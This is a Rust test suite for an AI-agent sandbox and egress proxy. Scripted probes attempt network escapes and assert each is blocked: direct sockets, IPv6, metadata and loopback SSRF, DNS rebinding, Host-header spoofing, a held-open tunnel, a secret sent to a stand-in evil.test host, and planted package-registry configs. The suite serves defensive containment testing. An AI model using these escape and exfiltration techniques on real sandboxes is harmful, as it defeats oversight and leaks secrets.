//! The escape suite: from inside real sandboxes, an agent (and a setup script) try every
//! way out around the egress proxy and through it, and each attempt's failure is asserted,
//! along with the positive controls that show the way that is allowed works.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

use hangar_engine::{Engine, EngineConfig, TaskRequest};
use hangar_net::StaticResolver;
use hangar_secrets::Secret;
use hangar_spec::TaskId;
use hangar_store::db::NetworkEntry;
use hangar_testkit::upstream::Upstream;

mod common;

const API_IP: &str = "198.51.100.110";
const EVIL_IP: &str = "198.51.100.111";

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

/// The stand-in internet: `api.test` and `evil.test` on documentation addresses, and a
/// service on the host's own loopback that no sandbox may reach by default.
struct World {
    api: Upstream,
    evil: Upstream,
    internal: Upstream,
}

fn world() -> World {
    World {
        api: Upstream::start(ip(API_IP), &["api.test", "deny.test", "mixed.test"]),
        evil: Upstream::start(ip(EVIL_IP), &["evil.test"]),
        internal: Upstream::start(ip("127.0.0.1"), &["internal.test", "rebind.test"]),
    }
}

/// An engine whose proxies resolve the stand-in internet's names and trust its CAs.
fn config_in(w: &World) -> EngineConfig {
    EngineConfig {
        resolver: Arc::new(
            StaticResolver::new()
                .with("api.test", &[ip(API_IP)])
                .with("deny.test", &[ip(API_IP)])
                .with("evil.test", &[ip(EVIL_IP)])
                .with("internal.test", &[ip("127.0.0.1")])
                .with("rebind.test", &[ip("127.0.0.1")])
                .with("meta.test", &[ip("169.254.169.254")])
                .with("mixed.test", &[ip(API_IP), ip("127.0.0.1")]),
        ),
        trusted_cas: Some(
            [&w.api, &w.evil, &w.internal]
                .iter()
                .map(|u| u.ca_pem.clone())
                .collect(),
        ),
        ..common::config()
    }
}

async fn engine_in(w: &World) -> Engine {
    common::open(config_in(w)).await
}

/// `probe NAME RESULT` lines a script printed, by name.
fn probes(logs: &[String]) -> BTreeMap<String, String> {
    logs.iter()
        .filter_map(|l| l.strip_prefix("probe "))
        .filter_map(|l| l.split_once(' '))
        .map(|(k, v)| (k.to_string(), v.trim().to_string()))
        .collect()
}

fn check(probes: &BTreeMap<String, String>, name: &str, expected: &str) {
    assert_eq!(
        probes.get(name).map(String::as_str),
        Some(expected),
        "probe {name}; all: {probes:#?}"
    );
}

/// Prints the CONNECT (or plain) status and the reason header of a request through the
/// proxy: `curl_probe NAME ARGS...` → `probe NAME <code> <reason>`.
const HELPERS: &str = r#"
curl_probe() {
  local name=$1; shift
  local out code reason
  out=$(curl -sS -m 10 -D - -o /dev/null -w '\nconnect=%{http_connect} code=%{http_code}\n' "$@" 2>/dev/null || true)
  reason=$(printf '%s\n' "$out" | tr -d '\r' | awk -F': ' 'tolower($1)=="x-hangar-reason"{print $2; exit}')
  code=$(printf '%s\n' "$out" | sed -n 's/^connect=\([0-9]*\) code=\([0-9]*\)$/\1\/\2/p')
  echo "probe $name $code ${reason:--}"
}
py_probe() {
  echo "probe $1 $(python3 -c "$2" 2>&1 | tail -1)"
}
"#;

fn env_file(name: &str, repo: &std::path::Path, internal_port: u16) -> String {
    format!(
        r#"name = "{name}"
repo = "{repo}"
image = "debian-bookworm"

[setup]
script = '''
{HELPERS}
curl_probe setup_loopback --noproxy none.invalid https://127.0.0.1:{internal_port}/
curl_probe setup_loopback_name https://rebind.test:{internal_port}/
curl_probe setup_metadata http://169.254.169.254/latest/meta-data/
curl_probe setup_metadata_name https://meta.test/
curl_probe setup_v6_loopback https://[::1]:{internal_port}/
curl_probe setup_v4_mapped https://[::ffff:127.0.0.1]:{internal_port}/
curl_probe setup_mixed https://mixed.test/
curl_probe setup_tunnel https://api.test:$API_HTTPS_PORT/setup-tunnel
curl -sS -o /dev/null http://api.test:$API_HTTP_PORT/token/$SETUP_TOKEN
'''

[maintenance]
script = '''
cat > /tmp/holder.py <<'PY'
import socket, sys, os, time
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(sys.argv[1].encode() + b"\r\n\r\n")
head = s.recv(4096)
open("/tmp/holder.connected", "w").write(head.decode(errors="replace").splitlines()[0])
while not os.path.exists("/tmp/go"):
    time.sleep(0.05)
try:
    s.sendall(b"GET /after-switch HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
    data = s.recv(4096)
    result = "open " + data.decode(errors="replace").splitlines()[0] if data else "closed"
except OSError as e:
    result = "closed " + type(e).__name__
open("/tmp/holder.out", "w").write(result)
PY
setsid python3 /tmp/holder.py "CONNECT {API_IP}:$API_HTTP_PORT HTTP/1.1" >/dev/null 2>&1 < /dev/null &
for i in $(seq 100); do [ -e /tmp/holder.connected ] && break; sleep 0.05; done
echo "probe maintenance_holder $(cat /tmp/holder.connected)"
'''

[env]
API_HTTP_PORT = "{api_http}"
API_HTTPS_PORT = "API_HTTPS_PORT_VALUE"
EVIL_HTTPS_PORT = "EVIL_HTTPS_PORT_VALUE"

# Setup's alone: a secret in maintenance has its processes stopped (the holder's too).
[secrets.SETUP_TOKEN]
phases = ["setup"]

[secrets.API_KEY]
inject = {{ hosts = ["api.test"], header = "Authorization", format = "Bearer {{}}" }}
phases = ["agent"]

[network.setup]
access = "unrestricted"

[network.maintenance]
access = "limited"
allow = ["{API_IP}"]

[network.agent]
access = "limited"
allow = ["*.test", "internal.test:{internal_port}"]
deny = ["deny.test"]
methods = ["GET", "HEAD"]

[agent]
script = 'true'
"#,
        repo = repo.display(),
        api_http = "API_HTTP_PORT_VALUE",
    )
}

const AGENT: &str = r#"
touch /tmp/go
for i in $(seq 100); do [ -e /tmp/holder.out ] && break; sleep 0.05; done
echo "probe phase_switch $(cat /tmp/holder.out 2>/dev/null || echo missing)"
echo "probe key_is_placeholder $(case "$API_KEY" in hangar-placeholder-*) echo yes;; *) echo no;; esac)"
py_probe direct_ip 'import socket; socket.create_connection(("198.51.100.110", 80), timeout=5)'
curl --noproxy '*' -sS -m 5 -o /dev/null http://198.51.100.110/ 2>/dev/null || echo "probe direct_curl exit=$?"
py_probe resolve 'import socket; socket.getaddrinfo("api.test", 443)'
py_probe udp 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("198.51.100.110", 53))'
py_probe ipv6_direct 'import socket; socket.create_connection(("2001:db8::1", 80), timeout=5)'
py_probe ipv6_udp 'import socket; s=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b"x", ("2001:db8::1", 53))'
curl_probe unlisted https://unlisted.example/
curl_probe denied https://deny.test/
curl_probe get_allowed https://api.test:$API_HTTPS_PORT/get
curl_probe post_refused -X POST -d x https://api.test:$API_HTTPS_PORT/post
curl_probe host_mismatch -H "Host: evil.test:$EVIL_HTTPS_PORT" https://api.test:$API_HTTPS_PORT/host-mismatch
curl_probe plain_host_mismatch -H 'Host: evil.test' http://api.test:$API_HTTP_PORT/plain-mismatch
curl_probe loopback --noproxy none.invalid https://127.0.0.1/
curl_probe loopback_name https://rebind.test/
curl_probe metadata http://169.254.169.254/
curl_probe v6_loopback --noproxy none.invalid 'https://[::1]/'
curl_probe internal_named "https://internal.test:$INTERNAL_PORT/named"
curl_probe inject -H "Authorization: Bearer $API_KEY" https://api.test:$API_HTTPS_PORT/inject
curl_probe elsewhere -H "Authorization: Bearer $API_KEY" https://evil.test:$EVIL_HTTPS_PORT/elsewhere
curl_probe wrong_header -H "X-Key: $API_KEY" https://api.test:$API_HTTPS_PORT/wrong-header
"#;

#[tokio::test(flavor = "multi_thread")]
async fn the_agent_finds_no_way_out_but_the_allowed_one() {
    let w = world();
    let engine = engine_in(&w).await;
    let repo = hangar_testkit::repo_with(&[("README", b"net\n")]);
    let name = format!("net-{}", TaskId::random());
    let internal_port = w.internal.https.port();
    let file = env_file(&name, repo.path(), internal_port)
        .replace("API_HTTP_PORT_VALUE", &w.api.http.port().to_string())
        .replace("API_HTTPS_PORT_VALUE", &w.api.https.port().to_string())
        .replace("EVIL_HTTPS_PORT_VALUE", &w.evil.https.port().to_string());
    engine
        .create_env("net.toml", &file, repo.path())
        .await
        .unwrap();
    let key = format!("real-key-{}", TaskId::random());
    let token = format!("setup-token-{}", TaskId::random());
    for (secret, value) in [("API_KEY", &key), ("SETUP_TOKEN", &token)] {
        engine
            .secret_set(
                &name,
                secret,
                &Secret::new(value.clone().into_bytes()).unwrap(),
            )
            .await
            .unwrap();
    }
    let script = format!("INTERNAL_PORT={internal_port}\n{HELPERS}\n{AGENT}");
    let req = TaskRequest {
        script: Some(script),
        ..common::request(&name, "escape")
    };
    let (task, attempt) = common::run(&engine, &req).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    let p = probes(&logs);

    // Setup (unrestricted): internal addresses stay shut, however they are named.
    for name in [
        "setup_loopback",
        "setup_loopback_name",
        "setup_metadata",
        "setup_metadata_name",
        "setup_v6_loopback",
        "setup_v4_mapped",
        "setup_mixed",
    ] {
        let expected = if name == "setup_metadata" {
            "000/403 blocked-private-address" // plain HTTP: the 403 is the response itself
        } else {
            "403/000 blocked-private-address"
        };
        check(&p, name, expected);
    }
    check(&p, "setup_tunnel", "200/200 -");

    // The phase switch cut the tunnel maintenance opened.
    check(&p, "maintenance_holder", "HTTP/1.1 200 OK");
    assert!(
        p["phase_switch"].starts_with("closed"),
        "phase_switch: {}",
        p["phase_switch"]
    );
    assert!(!w.api.seen().iter().any(|s| s.path == "/after-switch"));

    // No way around the proxy: no route, no resolver, no UDP, no IPv6.
    check(&p, "key_is_placeholder", "yes");
    check(
        &p,
        "direct_ip",
        "OSError: [Errno 101] Network is unreachable",
    );
    check(&p, "direct_curl", "exit=7");
    assert!(
        p["resolve"].starts_with("socket.gaierror"),
        "{}",
        p["resolve"]
    );
    check(&p, "udp", "OSError: [Errno 101] Network is unreachable");
    check(
        &p,
        "ipv6_direct",
        "OSError: [Errno 101] Network is unreachable",
    );
    check(
        &p,
        "ipv6_udp",
        "OSError: [Errno 101] Network is unreachable",
    );

    // Through the proxy: only what the policy allows.
    check(&p, "unlisted", "403/000 blocked-by-allowlist");
    check(&p, "denied", "403/000 blocked-by-allowlist");
    check(&p, "get_allowed", "200/200 -");
    check(&p, "post_refused", "200/403 blocked-by-method");
    check(&p, "host_mismatch", "200/403 blocked-by-allowlist");
    check(&p, "plain_host_mismatch", "000/403 blocked-by-allowlist");
    check(&p, "loopback", "403/000 blocked-by-allowlist");
    check(&p, "loopback_name", "403/000 blocked-private-address");
    check(&p, "metadata", "000/403 blocked-by-allowlist");
    check(&p, "v6_loopback", "403/000 blocked-by-allowlist");
    check(&p, "internal_named", "200/200 -");

    // The upstreams saw only what was allowed.
    let api = w.api.seen();
    let paths = |u: &[hangar_testkit::upstream::Seen]| -> Vec<String> {
        u.iter().map(|s| s.path.clone()).collect()
    };
    for refused in ["/post", "/host-mismatch", "/plain-mismatch"] {
        assert!(!paths(&api).contains(&refused.to_string()), "{refused}");
    }
    assert!(w.evil.seen().iter().all(|s| s.path == "/elsewhere"));
    assert!(w.internal.seen().iter().all(|s| s.path == "/named"));

    // The placeholder became the key for api.test's Authorization only.
    let at = |path: &str| api.iter().find(|s| s.path == path).cloned();
    let injected = at("/inject").expect("api.test got the injected request");
    assert_eq!(
        injected.header("authorization"),
        Some(format!("Bearer {key}").as_str())
    );
    let wrong = at("/wrong-header").expect("api.test got the request");
    assert!(wrong
        .header("x-key")
        .unwrap()
        .starts_with("hangar-placeholder-"));
    let elsewhere = w
        .evil
        .seen()
        .into_iter()
        .find(|s| s.path == "/elsewhere")
        .unwrap();
    let sent = elsewhere.header("authorization").unwrap();
    assert!(sent.starts_with("Bearer hangar-placeholder-"), "{sent}");
    assert!(!sent.contains(&key));

    // The audit log has every decision, and no secret value.
    let log = engine
        .network_log(&common::handle(&engine, &task.id).await, None)
        .await
        .unwrap();
    let find = |pred: &dyn Fn(&NetworkEntry) -> bool| log.iter().find(|e| pred(e)).cloned();
    let e = find(&|e| e.host == "unlisted.example").expect("unlisted logged");
    assert_eq!(
        (e.phase.as_str(), e.decision.as_str()),
        ("agent", "blocked-by-allowlist")
    );
    let e = find(&|e| e.method.as_deref() == Some("POST")).expect("POST logged");
    assert_eq!(e.decision, "blocked-by-method");
    assert_eq!(
        e.rule.as_deref(),
        Some("network.agent.methods = [GET, HEAD]")
    );
    let e = find(&|e| e.host == "127.0.0.1" && e.phase == "setup").expect("loopback logged");
    assert_eq!(e.decision, "blocked-private-address");
    let e = find(&|e| e.host == "evil.test" && e.method.is_some()).expect("elsewhere logged");
    assert!(
        e.note
            .as_deref()
            .unwrap_or("")
            .contains("placeholder of API_KEY sent unchanged"),
        "{e:?}"
    );
    let e = find(&|e| e.note.as_deref() == Some("tunnel") && e.phase == "setup").unwrap();
    assert!(e.bytes_up > 0 && e.bytes_down > 0, "{e:?}");
    // Regression: a request inside an intercepted connection was logged without its path,
    // the rule that allowed the connection, or its bytes.
    let e = find(&|e| e.path.as_deref() == Some("/get")).expect("the intercepted GET logged");
    assert_eq!(
        (e.method.as_deref(), e.decision.as_str()),
        (Some("GET"), "allowed")
    );
    assert_eq!(
        e.rule.as_deref(),
        Some("network.agent.allow *.test"),
        "{e:?}"
    );
    assert!(e.bytes_down > 0, "{e:?}");
    // A path goes through the redactor as every other field does.
    let e = find(&|e| e.path.as_deref().is_some_and(|p| p.starts_with("/token/"))).unwrap();
    assert_eq!(
        e.path.as_deref(),
        Some("/token/[secret:SETUP_TOKEN]"),
        "{e:?}"
    );
    // In time order, though a connection's entry is written when it closes.
    let order: Vec<(i64, u32, i64)> = log.iter().map(|e| (e.ts_ms, e.attempt, e.seq)).collect();
    assert!(order.is_sorted(), "{order:?}");
    // Debug prints every field: a value in any of them shows.
    let json = format!("{log:?}");
    assert!(!json.contains(&key));
    assert!(!json.contains(&token));
    let id = hangar_sandbox::SandboxId::new(attempt.sandbox.clone().unwrap()).unwrap();
    let store = hangar_testkit::shared_store();
    hangar_testkit::assert_no_traces(&hangar_testkit::host(&store), &id);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_agent_phase_is_off_by_default() {
    let w = world();
    let engine = engine_in(&w).await;
    let repo = hangar_testkit::repo_with(&[("README", b"off\n")]);
    let name = format!("off-{}", TaskId::random());
    let file = format!(
        "name = \"{name}\"\nrepo = \"{}\"\nimage = \"debian-bookworm\"\n\
         [agent]\nscript = 'true'\n",
        repo.path().display()
    );
    engine
        .create_env("off.toml", &file, repo.path())
        .await
        .unwrap();
    let req = TaskRequest {
        script: Some(format!(
            "{HELPERS}\ncurl_probe off -k https://api.test/\n\
             echo \"probe env $HTTPS_PROXY $NO_PROXY $SSL_CERT_FILE\"\n\
             grep -c 'BEGIN CERTIFICATE' $NODE_EXTRA_CA_CERTS | sed 's/^/probe ca /'\n\
             grep -qF \"$(sed -n 2p $NODE_EXTRA_CA_CERTS)\" /etc/ssl/certs/ca-certificates.crt && echo 'probe trusted yes'\n"
        )),
        ..common::request(&name, "off")
    };
    let (task, attempt) = common::run(&engine, &req).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    let p = probes(&logs);
    check(&p, "off", "403/000 network-off");
    check(
        &p,
        "env",
        "http://127.0.0.1:3128 localhost,127.0.0.1 /.hangar/run/ca-bundle.pem",
    );
    // The three upstreams' CAs that the test trusts, and the hangar CA.
    check(&p, "ca", "4");
    check(&p, "trusted", "yes");
    assert!(w.api.seen().is_empty());
    let log = engine
        .network_log(&common::handle(&engine, &task.id).await, None)
        .await
        .unwrap();
    assert_eq!(log.len(), 1, "{log:?}");
    assert_eq!(log[0].rule.as_deref(), Some("network.agent.access = off"));
}

/// The package-managers preset, end to end: setup may reach exactly the registries the
/// image's own apt configuration names (whatever they are here), through the proxy.
#[tokio::test(flavor = "multi_thread")]
async fn the_package_managers_preset_opens_the_images_own_registries() {
    let engine = common::engine().await;
    let repo = hangar_testkit::repo_with(&[("README", b"apt\n")]);
    let name = format!("apt-{}", TaskId::random());
    let file = format!(
        "name = \"{name}\"\nrepo = \"{}\"\nimage = \"debian-bookworm\"\n\
         [setup]\nscript = '''\n{HELPERS}\n\
         apt-get -q update -o Acquire::Retries=2 >/dev/null 2>&1 && echo 'probe apt ok' || echo 'probe apt failed'\n\
         curl_probe other https://unlisted.example/\n'''\n\
         [network.setup]\naccess = \"limited\"\npresets = [\"package-managers\"]\n\
         [agent]\nscript = 'true'\n",
        repo.path().display()
    );
    engine
        .create_env("apt.toml", &file, repo.path())
        .await
        .unwrap();
    let (task, attempt) = common::run(&engine, &common::request(&name, "apt")).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    let p = probes(&logs);
    check(&p, "apt", "ok");
    check(&p, "other", "403/000 blocked-by-allowlist");
    let log = engine
        .network_log(&common::handle(&engine, &task.id).await, None)
        .await
        .unwrap();
    let allowed: Vec<&NetworkEntry> = log.iter().filter(|e| e.decision == "allowed").collect();
    assert!(!allowed.is_empty(), "{log:#?}");
    for e in allowed {
        let rule = e.rule.as_deref().unwrap_or("");
        assert!(
            rule.starts_with("preset package-managers (from /etc/apt/sources.list"),
            "{e:?}"
        );
    }
}

/// Regression: the preset was read from the sandbox's root, where setup (the repository's
/// code) writes: an apt source or an npmrc naming any host opened that host to the agent.
/// The preset comes from the image's own layers, which still open its registries.
#[tokio::test(flavor = "multi_thread")]
async fn package_manager_files_that_setup_writes_open_no_host_for_the_agent() {
    let w = world();
    let engine = engine_in(&w).await;
    let repo = hangar_testkit::repo_with(&[("README", b"preset\n")]);
    let name = format!("preset-{}", TaskId::random());
    let (http, https) = (w.evil.http.port(), w.evil.https.port());
    let file = format!(
        r#"name = "{name}"
repo = "{repo}"
image = "debian-bookworm"

[setup]
script = '''
echo 'deb http://evil.test:{http}/debian bookworm main' > /etc/apt/sources.list.d/evil.list
echo 'registry=https://evil.test:{https}/' > /root/.npmrc
printf '[global]\nindex-url = https://evil.test:{https}/simple\n' > /etc/pip.conf
'''

[network.agent]
access = "limited"
presets = ["package-managers"]

[agent]
script = '''
{HELPERS}
curl_probe npm https://evil.test:{https}/
curl_probe apt http://evil.test:{http}/debian/
image=$(grep -h '^deb \|^URIs:' /etc/apt/sources.list /etc/apt/sources.list.d/* 2>/dev/null \
  | grep -v evil.test | grep -o 'https\?://[^/ ]*' | head -1)
echo "probe image_registry $image"
curl -sS -m 10 -I -o /dev/null "$image/" || true
'''
"#,
        repo = repo.path().display()
    );
    engine
        .create_env("preset.toml", &file, repo.path())
        .await
        .unwrap();
    let (task, attempt) = common::run(&engine, &common::request(&name, "preset")).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    let p = probes(&logs);
    check(&p, "npm", "403/000 blocked-by-allowlist");
    check(&p, "apt", "000/403 blocked-by-allowlist");
    assert!(w.evil.seen().is_empty());
    // The image's own registry is still in the preset (whether it answers or not).
    let image = p.get("image_registry").expect("the image's apt source");
    let host = image
        .rsplit("://")
        .next()
        .unwrap()
        .split(':')
        .next()
        .unwrap();
    assert!(!host.is_empty(), "{logs:#?}");
    let log = engine
        .network_log(&common::handle(&engine, &task.id).await, None)
        .await
        .unwrap();
    let agent: Vec<&NetworkEntry> = log.iter().filter(|e| e.phase == "agent").collect();
    let reached = agent
        .iter()
        .find(|e| e.host == host)
        .unwrap_or_else(|| panic!("no entry for {host}: {agent:#?}"));
    let rule = reached.rule.as_deref().unwrap_or("");
    assert!(
        rule.starts_with("preset package-managers (from /etc/apt/sources.list"),
        "{reached:?}"
    );
    let evil: Vec<&str> = agent
        .iter()
        .filter(|e| e.host == "evil.test")
        .map(|e| e.decision.as_str())
        .collect();
    assert_eq!(evil, ["blocked-by-allowlist", "blocked-by-allowlist"]);
}

/// Regression: a registry variable (`[env] NPM_CONFIG_REGISTRY`, which a tenant writes)
/// naming the host's loopback with its port became a preset rule naming that exact host
/// and port, and so opened the loopback service. A preset allows its host but never opens
/// an internal or host-local address.
#[tokio::test(flavor = "multi_thread")]
async fn a_registry_variable_on_loopback_opens_nothing_internal() {
    let w = world();
    let engine = engine_in(&w).await;
    let repo = hangar_testkit::repo_with(&[("README", b"registry var\n")]);
    let name = format!("regvar-{}", TaskId::random());
    let port = w.internal.http.port();
    let file = format!(
        r#"name = "{name}"
repo = "{repo}"
image = "debian-bookworm"

[env]
NPM_CONFIG_REGISTRY = "http://127.0.0.1:{port}/"

[network.agent]
access = "limited"
presets = ["package-managers"]

[agent]
script = '''
{HELPERS}
curl_probe registry --noproxy none.invalid http://127.0.0.1:{port}/
'''
"#,
        repo = repo.path().display()
    );
    engine
        .create_env("regvar.toml", &file, repo.path())
        .await
        .unwrap();
    let (task, attempt) = common::run(&engine, &common::request(&name, "regvar")).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    check(
        &probes(&logs),
        "registry",
        "000/403 blocked-private-address",
    );
    assert!(w.internal.seen().is_empty(), "{:?}", w.internal.seen());
    let log = engine
        .network_log(&common::handle(&engine, &task.id).await, None)
        .await
        .unwrap();
    let refused = log
        .iter()
        .find(|e| e.phase == "agent" && e.host == "127.0.0.1")
        .unwrap_or_else(|| panic!("{log:#?}"));
    assert_eq!(refused.decision, "blocked-private-address", "{refused:?}");
}

/// Regression: behind a TLS-inspecting egress (as on this machine), `pip install`,
/// `npm ci` and `cargo fetch` failed in setup with certificate errors: the host trusted the
/// egress's CA, the image did not. Here the tunnel is not opened by the proxy, so the
/// client in the sandbox sees the upstream's own CA, which the administrator trusts.
#[tokio::test(flavor = "multi_thread")]
async fn sandboxes_trust_the_administrators_cas_and_snapshots_do_not_keep_them() {
    let w = world();
    let engine = common::open(EngineConfig {
        trusted_cas: Some(vec![w.api.ca_pem.clone()]),
        ..config_in(&w)
    })
    .await;
    let repo = hangar_testkit::repo_with(&[("README", b"tls\n")]);
    let name = format!("tls-{}", TaskId::random());
    let (api, evil) = (w.api.https.port(), w.evil.https.port());
    let fetch =
        |url: &str| format!("import urllib.request; print(urllib.request.urlopen('{url}').status)");
    let file = format!(
        "name = \"{name}\"\nrepo = \"{}\"\nimage = \"debian-bookworm\"\n\
         [setup]\nscript = '''\n{HELPERS}\n\
         curl_probe curl https://api.test:{api}/curl\n\
         py_probe python \"{}\"\n\
         curl_probe untrusted https://evil.test:{evil}/\n\
         grep -c 'BEGIN CERTIFICATE' \"$NODE_EXTRA_CA_CERTS\" | sed 's/^/probe node /'\n'''\n\
         [agent]\nscript = 'true'\n",
        repo.path().display(),
        fetch(&format!("https://api.test:{api}/python")),
    );
    engine
        .create_env("tls.toml", &file, repo.path())
        .await
        .unwrap();
    let (task, attempt) = common::run(&engine, &common::request(&name, "tls")).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    let p = probes(&logs);
    check(&p, "curl", "200/200 -");
    check(&p, "python", "200");
    // A CA nobody named stays untrusted.
    check(&p, "untrusted", "200/000 -");
    // The administrator's CA and the hangar CA, for Node.
    check(&p, "node", "2");
    let paths: Vec<String> = w.api.seen().iter().map(|s| s.path.clone()).collect();
    assert!(paths.contains(&"/curl".to_string()), "{paths:?}");
    assert!(paths.contains(&"/python".to_string()), "{paths:?}");
    // Neither CA stays in the snapshot: it may travel to where other CAs are trusted.
    let snapshots = engine.snapshots().await.unwrap();
    let snapshot = snapshots
        .iter()
        .find(|s| s.environment == name)
        .expect("a snapshot");
    let bundle = hangar_testkit::shared_store()
        .path(hangar_store::Bucket::Snapshots)
        .join(&snapshot.key)
        .join("etc/ssl/certs/ca-certificates.crt");
    let text = std::fs::read_to_string(&bundle).unwrap_or_default();
    let first_line = |pem: &str| {
        let mut lines = pem.lines().skip_while(|l| !l.contains("BEGIN CERTIFICATE"));
        lines.nth(1).expect("a certificate").to_string()
    };
    let hangar_ca = std::fs::read_to_string(
        hangar_testkit::shared_store()
            .path(hangar_store::Bucket::Proxy)
            .join("ca.pem"),
    )
    .unwrap();
    for pem in [&w.api.ca_pem, &hangar_ca] {
        assert!(!text.contains(&first_line(pem)), "{}", bundle.display());
    }
}

/// Regression: `methods` on `[network.agent]` refused the harness's requests to its own
/// model endpoint, which hangar's rule allows whatever else the agent may reach.
#[tokio::test(flavor = "multi_thread")]
async fn the_agents_method_list_leaves_its_model_endpoint_alone() {
    let w = world();
    let engine = engine_in(&w).await;
    let repo = hangar_testkit::repo_with(&[("README", b"methods\n")]);
    let name = format!("methods-{}", TaskId::random());
    let (http, https) = (w.api.http.port(), w.evil.https.port());
    let file = format!(
        "name = \"{name}\"\nrepo = \"{}\"\nimage = \"debian-bookworm\"\n\
         [network.agent]\naccess = \"limited\"\nallow = [\"evil.test\"]\nmethods = [\"GET\"]\n\
         [agent]\nendpoint = \"http://api.test:{http}/v1\"\nscript = '''\n{HELPERS}\n\
         curl_probe model -X POST -d '{{}}' http://api.test:{http}/v1/chat/completions\n\
         curl_probe other_post -X POST -d x https://evil.test:{https}/upload\n\
         curl_probe other_get https://evil.test:{https}/read\n'''\n",
        repo.path().display()
    );
    engine
        .create_env("methods.toml", &file, repo.path())
        .await
        .unwrap();
    let (task, attempt) = common::run(&engine, &common::request(&name, "methods")).await;
    let logs = common::logs(&engine, &task.id).await;
    assert_eq!(attempt.error, None, "{logs:#?}");
    let p = probes(&logs);
    check(&p, "model", "000/200 -");
    check(&p, "other_post", "200/403 blocked-by-method");
    check(&p, "other_get", "200/200 -");
    let seen: Vec<(String, String)> = w
        .api
        .seen()
        .iter()
        .map(|s| (s.method.clone(), s.path.clone()))
        .collect();
    assert_eq!(seen, [("POST".into(), "/v1/chat/completions".into())]);
}

/// Regression: a tenant's mirror let git look its repository host up again after the
/// engine checked it, so a name rebound to loopback in between reached the daemon's host.
/// Here the name resolves nowhere but in the check: git reaches the repository only
/// through the checked address it is pinned to, on clone and on fetch.
#[test]
fn a_tenants_mirror_connects_to_the_address_checked_not_a_second_lookup() {
    use hangar_engine::{Mirrors, Pin, Reach};
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("served/r");
    std::fs::create_dir_all(&repo).unwrap();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .current_dir(&repo)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("README"), "pinned\n").unwrap();
    git(&["add", "README"]);
    git(&["commit", "-q", "-m", "one"]);
    let head = git(&["rev-parse", "HEAD"]);

    let address = ip("198.51.100.121");
    let daemon =
        hangar_testkit::gitd::GitDaemon::serve_outside(&dir.path().join("served"), address);
    let host = "repo.hangar-pin.test";
    let url = format!("git://{host}:{}/r", daemon.port());
    let mirrors = Mirrors::new(dir.path().join("mirrors"));
    assert!(
        mirrors.sync(&url, &Reach::Any).is_err(),
        "{host} must not resolve on its own for this test to mean anything"
    );
    let pinned = Reach::Checked(Pin {
        origin: format!("git://{host}:{}", daemon.port()),
        host: host.into(),
        port: daemon.port(),
        addrs: vec![address],
    });
    for _ in ["clone", "fetch"] {
        let mirror = mirrors.sync(&url, &pinned).unwrap();
        let out = std::process::Command::new("git")
            .arg("--git-dir")
            .arg(&mirror)
            .args(["rev-parse", "refs/heads/main"])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), head);
    }
}
